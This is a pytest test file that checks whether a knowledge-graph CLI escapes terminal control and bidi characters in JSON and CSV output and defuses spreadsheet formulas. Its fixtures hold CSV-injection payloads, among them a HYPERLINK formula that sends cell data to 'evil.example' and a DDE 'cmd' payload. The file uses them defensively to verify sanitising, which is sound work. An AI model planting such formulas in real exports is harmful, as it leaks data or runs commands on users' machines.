"""Issue 13, item 10 (output hygiene): escape sequences from labels reached the terminal
through ``kg query --format csv`` and ``json``, and spreadsheet formulas passed into CSV.

Now JSON carries control, bidi and invisible characters as ``\\uXXXX`` escapes (the same
JSON value), CSV printed to a terminal shows them as escapes, and every CSV the tool writes
defuses formulas with a leading apostrophe (numbers in numeric columns stay numbers)."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import subprocess
import sys

import pyoxigraph as ox
import pytest
from hardeningkit import CONTROL, RTL, unsafe_chars
from kgtest import TINY_YAML, write_corpus

from kg.csvcell import defuse, is_number, json_escape_controls
from kg.query.formats import to_csv, to_json
from kg.store import QueryResult

XSD = "http://www.w3.org/2001/XMLSchema#"
LABELS = ("SELECT ?s ?label WHERE { ?s <http://www.w3.org/2000/01/rdf-schema#label> ?label "
          'FILTER(STRSTARTS(STR(?s), "https://w3id.org/kg-toolkit/id/")) }')
HOSTILE = [CONTROL, RTL, "\x9b31mC1", "a\u2028b", "zero\u200bwidth", "tag\U000e0041",
           "bell\x07", "del\x7f"]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1", "\r=1", "=cmd|' /C calc'!A0"]


def _kg_query_on_a_terminal(build_dir, query_file, fmt: str) -> str:
    """Run ``kg query`` with its standard output on a pseudo-terminal; what it printed."""
    master, slave = pty.openpty()
    try:
        proc = subprocess.Popen([sys.executable, "-m", "kg", "query", str(query_file),
                                 "--build", str(build_dir), "--format", fmt],
                                stdout=slave, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL)
        os.close(slave)
        chunks = []
        while True:
            try:
                data = os.read(master, 65536)
            except OSError:  # EIO: the child closed the terminal
                break
            if not data:
                break
            chunks.append(data)
        _, err = proc.communicate(timeout=600)
        assert proc.returncode == 0, err
    finally:
        os.close(master)
    return b"".join(chunks).decode("utf-8")


@pytest.fixture(scope="module")
def labels_query(tmp_path_factory):
    path = tmp_path_factory.mktemp("q") / "labels.rq"
    path.write_text("# title: Labels\n# question: Which labels?\n# params: none\n" + LABELS + "\n",
                    encoding="utf-8")
    return path


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_the_probe_no_escape_sequence_reaches_the_terminal(hostile_build, labels_query, fmt):
    out = _kg_query_on_a_terminal(hostile_build, labels_query, fmt)
    assert "\\x1b" in out or "\\u001b" in out, out[:500]  # the hostile label is there, shown
    assert "\x1b" not in out and "\u202e" not in out and "\x9b" not in out
    assert unsafe_chars(out.replace("\r", "")) == []


def test_json_is_the_same_value_with_the_characters_escaped(hostile_build, labels_query):
    r = subprocess.run([sys.executable, "-m", "kg", "query", str(labels_query), "--build",
                        str(hostile_build), "--format", "json"],
                       capture_output=True, text=True, timeout=600)
    assert r.returncode == 0, r.stderr
    assert unsafe_chars(r.stdout) == []
    store = ox.Store.read_only(str(hostile_build / "store"))
    want = json.loads(store.query(LABELS, use_default_graph_as_union=True).serialize(
        format=ox.QueryResultsFormat.JSON))
    got = json.loads(r.stdout)
    key = lambda b: (b["s"]["value"], b["label"]["value"])  # noqa: E731
    assert sorted(got["results"]["bindings"], key=key) == sorted(
        want["results"]["bindings"], key=key)
    assert any(unsafe_chars(b["label"]["value"]) for b in got["results"]["bindings"])


@pytest.mark.parametrize("text", HOSTILE)
def test_json_escapes_every_unsafe_character(text):
    result = QueryResult("select", variables=["x"], rows=[(ox.Literal(text),)])
    out = to_json(result)
    assert unsafe_chars(out) == [] and json.loads(out)["results"]["bindings"][0]["x"][
        "value"] == text
    assert json.loads(json_escape_controls(json.dumps({"k": text}, ensure_ascii=False))) == {
        "k": text}


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_on_a_terminal_shows_escapes_and_in_a_file_keeps_the_data(text):
    result = QueryResult("select", variables=["x"], rows=[(ox.Literal(text),)])
    assert unsafe_chars(to_csv(result, terminal=True).replace("\r\n", "")) == []
    rows = list(csv.reader(io.StringIO(to_csv(result), newline="")))
    assert rows[1] == [defuse(text)]


@pytest.mark.parametrize("cell", FORMULAS)
def test_query_csv_defuses_formulas(cell):
    result = QueryResult("select", variables=["x", "n", "s"], rows=[
        (ox.Literal(cell), ox.Literal("-7.2", datatype=ox.NamedNode(XSD + "decimal")),
         ox.Literal("-7.2"))])
    rows = list(csv.reader(io.StringIO(to_csv(result), newline="")))
    assert rows[1] == ["'" + cell, "-7.2", "'-7.2"]  # a typed number stays a number


def test_defuse_rules():
    assert [defuse(c) for c in ("North Korea", "", "'quoted", "a=b", "1-2")] == [
        "North Korea", "", "'quoted", "a=b", "1-2"]
    assert all(defuse(c).startswith("'") for c in FORMULAS)
    assert [defuse(n, numeric=True) for n in ("-7.2", "+3", "-1e-5", ".5")] == [
        "-7.2", "+3", "-1e-5", ".5"]
    assert defuse("-7.2 or =1", numeric=True) == "'-7.2 or =1"
    assert not is_number("-") and not is_number("--1") and is_number("-0.5")


def test_events_csv_defuses_formulas_and_keeps_numbers(tmp_path):
    from kg.build import build
    from kg.export.events_csv import export

    hostile = TINY_YAML.replace("label: China", 'label: "=HYPERLINK(\\"http://evil/\\")"')
    hostile = hostile.replace("label: Russia", 'label: "@SUM(A1:A9)"')
    assert hostile != TINY_YAML
    corpus = write_corpus(tmp_path / "c", hostile).parent
    build(corpus, out=tmp_path / "b", trig=False)
    from kg.store import open_store

    with open_store(tmp_path / "b" / "store") as store:
        out = export(store, tmp_path / "events.csv")
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    cells = [v for row in rows for v in row.values()]
    assert any("HYPERLINK" in c for c in cells)
    for c in cells:
        assert not c.startswith(("=", "@", "+", "\t", "\r")) and (
            not c.startswith("-") or is_number(c)), c
    for row in rows:
        assert row["goldstein"] == "" or is_number(row["goldstein"]), row
